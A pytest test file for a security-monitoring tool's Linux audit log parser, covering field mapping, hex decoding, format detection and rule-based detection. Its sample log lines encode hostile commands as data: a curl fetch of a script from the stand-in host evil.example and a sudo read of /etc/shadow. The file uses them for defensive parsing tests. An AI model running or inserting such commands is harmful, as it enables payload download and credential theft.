"""The Linux audit log format (``secmon.ingest.auditd``)."""

from __future__ import annotations

import random
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from secmon.ingest import IngestStats, Source, parse_lines
from secmon.ingest.formats import detect_format

from .conftest import promises_checked

GS = "\x1d"  # log_format=ENRICHED separates the interpreted values with a group separator

LINES = [
    "type=USER_AUTH msg=audit(1732788001.123:456): pid=2211 uid=0 auid=4294967295 ses=4294967295 "
    "subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=PAM:authentication grantors=? acct=\"root\" "
    f"exe=\"/usr/sbin/sshd\" hostname=203.0.113.5 addr=203.0.113.5 terminal=ssh res=failed'{GS}UID=\"root\" AUID=\"unset\"",
    "type=USER_LOGIN msg=audit(1732788005.001:460): pid=2215 uid=0 auid=1000 ses=7 msg='op=login id=1000 "
    "exe=\"/usr/sbin/sshd\" hostname=? addr=198.51.100.7 terminal=/dev/pts/0 res=success'",
    "node=web-1 type=USER_AUTH msg=audit(1732788006.500:461): pid=2216 uid=0 auid=4294967295 ses=4294967295 "
    "msg='op=PAM:authentication grantors=? acct=28696E76616C6964207573657229 exe=\"/usr/sbin/sshd\" "
    "hostname=203.0.113.6 addr=203.0.113.6 terminal=ssh res=failed'",
    "type=SYSCALL msg=audit(1732788010.000:470): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 "
    f"a3=0 items=2 ppid=2300 pid=2301 auid=1000 uid=0 tty=pts0 ses=7 comm=\"curl\" exe=\"/usr/bin/curl\" key=\"exec\"{GS}"
    "ARCH=x86_64 SYSCALL=execve AUID=\"alice\" UID=\"root\"",
    "type=EXECVE msg=audit(1732788010.000:470): argc=3 a0=\"curl\" a1=\"-s\" a2=687474703A2F2F6576696C2E6578616D706C652F782E7368",
    "type=PROCTITLE msg=audit(1732788010.000:470): proctitle=6375726C002D7300687474703A2F2F6576696C2E6578616D706C652F782E7368",
    "type=USER_CMD msg=audit(1732788020.000:480): pid=2400 uid=1000 auid=1000 ses=7 msg='cwd=\"/home/alice\" "
    "cmd=636174202F6574632F736861646F77 exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'",
    "type=CONFIG_CHANGE msg=audit(1732788030.000:490): auid=1000 ses=7 op=add_rule key=\"exec\" list=4 res=0",
]


def events() -> list[dict[str, Any]]:
    stats = IngestStats()
    parsed = parse_lines(LINES, format="auditd", stats=stats)
    assert not stats.rejected
    return parsed


def test_records_map_onto_standard_attributes_and_keep_every_pair() -> None:
    auth, login, invalid, syscall, execve, proctitle, sudo, config = events()
    assert auth["timestamp"] == 1732788001123 and auth["source"] == "auditd" and auth["message"] == LINES[0]
    assert auth["usr"] == {"name": "root"} and auth["network"]["client"]["ip"] == "203.0.113.5"
    assert auth["evt"] == {"outcome": "failure"}
    assert auth["auditd"]["type"] == "USER_AUTH" and auth["auditd"]["serial"] == 456 and auth["auditd"]["op"] == "PAM:authentication"
    assert auth["auditd"]["enriched"] == {"UID": "root", "AUID": "unset"}
    assert login["evt"] == {"outcome": "success"} and login["auditd"]["id"] == "1000"  # a number is not hexadecimal text
    assert "usr" not in login
    assert invalid["host"] == "web-1" and invalid["usr"] == {"name": "(invalid user)"}  # hex-encoded acct
    assert syscall["evt"] == {"outcome": "success"} and syscall["auditd"]["a0"] == "55d0"  # a syscall argument
    assert syscall["auditd"]["enriched"]["SYSCALL"] == "execve" and syscall["auditd"]["comm"] == "curl"
    assert execve["auditd"]["a2"] == "http://evil.example/x.sh" and execve["timestamp"] == syscall["timestamp"]
    assert proctitle["auditd"]["proctitle"] == "curl -s http://evil.example/x.sh"
    assert sudo["auditd"]["cmd"] == "cat /etc/shadow" and sudo["auditd"]["cwd"] == "/home/alice"
    assert config["evt"] == {"outcome": "failure"} and config["auditd"]["res"] == "0"


def test_audit_logs_are_detected_and_other_lines_are_counted(tmp_path: Path) -> None:
    path = tmp_path / "audit.log"
    path.write_text("\n".join(LINES) + "\n")
    assert detect_format(path.read_bytes()).name == "auditd"
    stats = IngestStats()
    assert parse_lines(["type=BROKEN no header here"], format="auditd", stats=stats) == []
    assert stats.rejected == {"unparsed_line": 1}


def test_promises_hold_line_by_line() -> None:
    from secmon.ingest.formats import FORMATS

    fmt = FORMATS["auditd"]
    promised = sum(promises_checked(fmt, line, event) for line, event in zip(LINES, events(), strict=True))
    assert promised >= 30
    # Decoded values are never promised: they are not in the line.
    assert fmt.implied_literals("usr.name", "(invalid user)") is None and fmt.implied_literals("auditd.cmd", "x") is None


@given(st.text(st.characters(codec="utf-8", exclude_categories=["Cs"]), min_size=1, max_size=40))
def test_hexadecimal_untrusted_strings_decode_to_what_audit_encoded(text: str) -> None:
    """audit writes an untrusted string holding a space, a quote or a control character as hex."""
    if any(c in text for c in " \"'") or any(ord(c) < 0x21 or ord(c) == 0x7F for c in text) or not text.isascii():
        written = text.encode().hex().upper()
    else:
        written = f'"{text}"'
    line = f"type=USER_CMD msg=audit(1732788020.000:480): pid=1 uid=0 auid=0 ses=1 msg='cwd=\"/\" cmd={written} res=success'"
    (event,) = parse_lines([line], format="auditd")
    assert event["auditd"]["cmd"] == text


@pytest.mark.parametrize("seed", [1, 2])
def test_a_rule_over_audit_records_gives_the_same_signals_with_and_without_the_prefilter(tmp_path: Path, seed: int) -> None:
    from secmon import Engine
    from secmon.rules.loader import rule_from_dict

    rnd = random.Random(seed)
    lines = []
    for i in range(400):
        ip = f"203.0.113.{rnd.randrange(1, 5)}"
        res = rnd.choice(["failed", "failed", "success"])
        kind = rnd.choice(["USER_AUTH", "USER_LOGIN", "USER_ACCT", "CRED_ACQ"])
        acct = rnd.choice(['"root"', '"alice"', "28696E76616C6964207573657229"])
        lines.append(f"type={kind} msg=audit({1732788000 + i}.{rnd.randrange(1000):03d}:{1000 + i}): pid={i} uid=0 auid=4294967295 "
                     f"ses=4294967295 msg='op=PAM:authentication acct={acct} exe=\"/usr/sbin/sshd\" hostname={ip} addr={ip} "
                     f"terminal=ssh res={res}'")
        if rnd.random() < 0.2:
            lines.append(f"type=SYSCALL msg=audit({1732788000 + i}.000:{5000 + i}): arch=c000003e syscall=59 "
                         f"success={rnd.choice(['yes', 'no'])} exit=0 comm=\"sh\" exe=\"/bin/sh\" key=\"exec\"")
    path = tmp_path / "audit.log"
    path.write_text("\n".join(lines) + "\n")
    rule = rule_from_dict({
        "id": "audit-auth-failures", "name": "audit auth failures",
        "queries": [{"query": "source:auditd @auditd.type:USER_AUTH @evt.outcome:failure", "groupByFields": ["@network.client.ip"]},
                    {"query": "source:auditd @auditd.type:SYSCALL @evt.outcome:failure @usr.name:*", "groupByFields": ["@network.client.ip"]}],
        "cases": [{"status": "medium", "condition": "a >= 5"}],
        "options": {"evaluationWindow": 60, "keepAlive": 300, "maxSignalDuration": 3600},
    })
    fast = Engine([rule], chunk_bytes=4096).detect([path])
    plain = Engine([rule], prefilter=False, chunk_bytes=4096).detect([path])
    assert sorted(s.key() for s in fast.signals) == sorted(s.key() for s in plain.signals)
    assert fast.signals and fast.skipped_lines > 0
    assert Source(str(path), path=path).format.name == "auditd"
